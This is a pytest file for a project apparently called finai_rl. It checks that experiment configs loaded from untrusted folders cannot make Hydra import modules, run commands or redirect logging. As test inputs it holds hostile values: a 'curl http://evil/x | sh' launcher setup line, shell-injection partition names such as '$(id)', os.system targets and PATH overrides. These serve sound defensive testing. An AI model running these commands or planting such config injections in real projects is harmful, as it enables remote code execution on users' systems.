"""A config from elsewhere runs no code: attacks by what Hydra itself builds."""

from __future__ import annotations

from pathlib import Path

import hydra
import pytest
from hydra.core.global_hydra import GlobalHydra
from hydra.core.hydra_config import HydraConfig
from hydra.errors import CompactHydraException
from omegaconf import OmegaConf

from finai_rl.config.command import CONFIG_DIR
from finai_rl.config.hydra_versions import VERSION_BASE
from finai_rl.config.safety.hydra_node import _sweeper_problems
from finai_rl.config.safety.targets import target_problems
from tests.config.composition import composed

AUTO = "finai_rl.sweep.search.auto_sampler.auto_sampler"
OUTPUT = "${hydra.runtime.output_dir}"
EVIL = "import os\nos.mkdir('{mark}')\n"


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.syspath_prepend(str(tmp_path))
    monkeypatch.setattr(HydraConfig.instance(), "cfg", None)
    (tmp_path / "evil.py").write_text(EVIL.format(mark=tmp_path / "mark"))
    (tmp_path / "experiment").mkdir()
    return tmp_path


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("callbacks: {x: {_target_: evil.A}}", "hydra.callbacks.x._target_: evil.A is not in a"),
        ("callbacks: {x: {_target_: finai_rl.sweep.callback.os.system}}", "x._target_: finai_rl."),
        ("callbacks: {x: '${hydra:help.evil}'}", "hydra.callbacks.x: ${hydra:help.evil} is not"),
        ("sweeper: {custom_search_space: evil.a}", "hydra.sweeper.custom_search_space: evil.a"),
        ("sweeper: {params: {trusted_packages: '[evil]'}}", "params.trusted_packages: is for the"),
        ("sweeper: {params: {hydra.callbacks: 1}}", "params.hydra.callbacks: is for the command"),
        ("sweeper: {sampler: {_target_: evil.A}}", "hydra.sweeper.sampler._target_: evil.A"),
        ("launcher: {_target_: evil.A}", "hydra.launcher._target_: evil.A is not in a package"),
        ("job_logging: {handlers: {console: {stream: 'ext://evil.a'}}}", "stream: ext://evil.a is"),
        ("job_logging: {handlers: {console: {class: evil.A}}}", "console.class: evil.A is none of"),
        ("job_logging: {formatters: {simple: {(): evil.A}}}", "simple.(): evil.A is none of"),
        ("hydra_logging: {handlers: {x: {(): os.system}}}", "hydra_logging.handlers.x.(): os.sys"),
        ("job_logging: {filters: {x: {(): '${hydra:help.evil}'}}}", "filters.x.(): ${hydra:help."),
        ("job_logging: {handlers: {x: {filename: evil.py}}}", "x.filename: evil.py: a file may"),
        (
            "job_logging: {handlers: {x: {filename: '${hydra.runtime.output_dir}/x.py'}}}",
            "x.py: a ",
        ),
        ("job_logging: {handlers: {x: {filename: '${hydra.runtime.output_dir}/../x.log'}}}", "a f"),
        ("job_logging: {handlers: {x: {'.': {baseFilename: evil.py}}}}", "x: sets attributes by"),
        ("job_logging: {formatters: {x: {style: '{'}}}", "x.style: { reaches into what is logged"),
        ("sweeper: {conditional: {a: {b: {trusted_packages: x}}}}", "trusted_packages: is for the"),
        ("sweeper: {conditional: {a: {b: {+hydra.callbacks: x}}}}", "hydra.callbacks: is for the"),
        ("sweeper: {params: {agent.init_from: x.zip}}", "params.agent.init_from: is for the"),
        ("sweeper: {params: {agent: {init_from: x.zip}}}", "params.agent.init_from: is for the"),
        (f"callbacks: {{x: {{_target_: {AUTO}, registry: x}}}}", "hydra.callbacks.x._target_"),
        ("job: {env_set: {PATH: /tmp/evil}}", "hydra.job.env_set.PATH: a file may set"),
        ("job: {env_set: {GIT_CONFIG_COUNT: '1'}}", "hydra.job.env_set.GIT_CONFIG_COUNT: a file"),
    ],
)
def test_hydra_builds_nothing_that_a_file_makes_up(text: str, said: str, folder: Path) -> None:
    preset(folder, f"hydra:\n  {text}\n")
    kind = "study" if "conditional" in text else "optuna"
    sweeper = [f"hydra/sweeper={kind}"] if "sweeper" in text else []
    with pytest.raises(CompactHydraException) as refused:
        composed("experiment=evil", f"hydra.searchpath=[file://{folder}]", *sweeper)
    assert said in str(refused.value)
    assert not (folder / "mark").exists()


@pytest.mark.parametrize(
    ("launcher", "text", "key"),
    [
        ("slurm", "setup: ['curl http://evil/x | sh']", "hydra.launcher.setup"),
        ("slurm", "sbatch: {export: 'PATH=/tmp/evil'}", "hydra.launcher.sbatch"),
        ("ray", "init: {runtime_env: {py_executable: evil}}", "hydra.launcher.init"),
        ("ray", "address: 'evil:6379'", "hydra.launcher.address"),
    ],
)
def test_what_a_launcher_runs_and_where_is_for_the_command_line(
    launcher: str, text: str, key: str, folder: Path
) -> None:
    preset(folder, f"hydra:\n  launcher: {{{text}}}\n")
    usual = (f"hydra.searchpath=[file://{folder}]", f"hydra/launcher={launcher}")
    with pytest.raises(CompactHydraException, match=f"{key}: .* stands in a file"):
        composed("experiment=evil", *usual)
    typed = "host:6379" if key.endswith("address") else "{}" if "setup" not in key else "[]"
    assert composed("experiment=evil", *usual, f"{key}={typed}")
    assert composed(*usual)


def test_a_folder_of_samplers_is_named_on_the_command_line_in_one_place() -> None:
    own = {"_target_": AUTO, "registry": "theirs"}
    typed = ["hydra.sweeper.sampler.registry"]
    assert not [*target_problems("hydra.sweeper", {"sampler": own}, [])]
    assert not [*_sweeper_problems({"sampler": own}, [], typed)]
    assert "theirs would be run" in next(_sweeper_problems({"sampler": own}, [], []))
    positional = {"_target_": AUTO, "_args_": ["theirs"]}
    assert "_args_: give registry" in next(_sweeper_problems({"sampler": positional}, [], typed))
    looked_up = {"_target_": "hydra.utils.get_method", "path": AUTO}
    for node in ({"sampler": {"base_sampler": own}}, {"sampler": looked_up}, {"pruner": own}):
        assert "is not what a config may name" in next(target_problems("hydra.sweeper", node, []))
    assert "is not what a config may name" in next(target_problems("callbacks", [own], []))


def test_a_space_that_is_typed_is_let_through() -> None:
    node = {"params": {"agent.init_from": "choice(a,b)", "seed": "range(2)"}}
    (said,) = _sweeper_problems(node, [], [])
    assert said.startswith("hydra.sweeper.params.agent.init_from: is for the command line alone")
    assert not [*_sweeper_problems(node, [], ["hydra.sweeper.params.agent.init_from"])]


@pytest.mark.parametrize("partition", [r'"short\nid > x #"', "'short; id'", "'$(id)'"])
def test_a_partition_is_a_name(partition: str, folder: Path) -> None:
    usual = (f"hydra.searchpath=[file://{folder}]", "hydra/launcher=slurm")
    preset(folder, f"hydra:\n  launcher: {{partition: {partition}}}\n")
    with pytest.raises(CompactHydraException, match=r"hydra\.launcher\.partition: "):
        composed("experiment=evil", *usual)
    preset(folder, "hydra:\n  launcher: {partition: 'short,long-2'}\n")
    assert composed("experiment=evil", *usual)


@pytest.mark.parametrize("key", ["agent.init_from", "resume"])
def test_what_a_training_loads_is_named_on_its_line(key: str, folder: Path) -> None:
    preset(folder, f"{key.replace('.', ': {')}: theirs{'}' if '.' in key else ''}\n")
    named = ("experiment=evil", f"hydra.searchpath=[file://{folder}]")
    with pytest.raises(CompactHydraException, match=rf"{key}: theirs stands in a file"):
        composed(*named)
    assert OmegaConf.select(composed(*named, f"{key}=theirs"), key) == "theirs"


@pytest.mark.parametrize("key", ["run_id", "model"])
@pytest.mark.parametrize("command", ["evaluate", "decide", "paper account=mine", "promote"])
def test_what_a_command_loads_is_named_on_its_line(command: str, key: str, folder: Path) -> None:
    name, *words = command.split()
    (folder / "theirs.yaml").write_text(
        f"defaults: [{name}, _self_]\nhydra: {{searchpath: ['file://{CONFIG_DIR}']}}\n"
        f"{key}: theirs\n"
    )
    GlobalHydra.instance().clear()
    with hydra.initialize_config_dir(str(folder), **VERSION_BASE):
        with pytest.raises(CompactHydraException, match=f"{key}: theirs stands in a file"):
            hydra.compose("theirs", words)
        assert hydra.compose("theirs", [*words, f"{key}=theirs"])[key] == "theirs"


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("overrides: {task: ['trusted_packages=[evil]']}", "hydra.overrides: trusted_packages="),
        ("overrides: {hydra: ['hydra.job.env_set.PATH=x']}", "hydra.overrides: hydra.job.env_set"),
    ],
)
def test_a_file_has_typed_nothing(text: str, said: str, folder: Path) -> None:
    evil = "trusted_packages: [evil]\nhydra:\n  job: {env_set: {PATH: x}}\n  "
    preset(folder, f"{evil}{text}\n")
    with pytest.raises(CompactHydraException) as refused:
        composed("experiment=evil", f"hydra.searchpath=[file://{folder}]")
    assert said in str(refused.value)
    assert "trusted_packages: [evil] stands in a file" in str(refused.value)
    assert "hydra.job.env_set.PATH: a file may set" in str(refused.value)


def test_a_file_cannot_vouch_for_itself(folder: Path) -> None:
    preset(folder, "trusted_packages: [evil]\nhydra: {callbacks: {x: {_target_: evil.A}}}\n")
    named = ("experiment=evil", f"hydra.searchpath=[file://{folder}]")
    with pytest.raises(CompactHydraException) as refused:
        composed(*named)
    assert "say so on the command line: trusted_packages=[evil]" in str(refused.value)
    assert "evil.A is not in a package" in str(refused.value)
    assert composed(*named, "trusted_packages=[evil]").trusted_packages == ["evil"]


def test_a_primary_config_imports_no_package_to_search_in_it(folder: Path) -> None:
    GlobalHydra.instance().clear()
    (folder / "evil.yaml").write_text("hydra: {searchpath: ['pkg://evil']}\n")
    with (
        hydra.initialize_config_dir(str(folder), **VERSION_BASE),
        pytest.raises(CompactHydraException, match=r"hydra\.searchpath: pkg://evil stands"),
    ):
        hydra.compose("evil")
    assert not (folder / "mark").exists()


@pytest.mark.parametrize(
    "override",
    [
        "+hydra.job.env_set.MARK=1",
        "+hydra.job_logging.handlers.own={class: logging.FileHandler, filename: own.log}",
        "hydra/launcher=joblib",
        "hydra/sweeper=study",
        "hydra/job_logging=disabled",
        "sweep=ppo",
        "evaluation=cpcv",
    ],
)
def test_what_hydra_offers_is_let_through(override: str) -> None:
    assert composed(override).seed == 0


def preset(folder: Path, text: str) -> None:
    (folder / "experiment" / "evil.yaml").write_text(f"# @package _global_\n{text}")
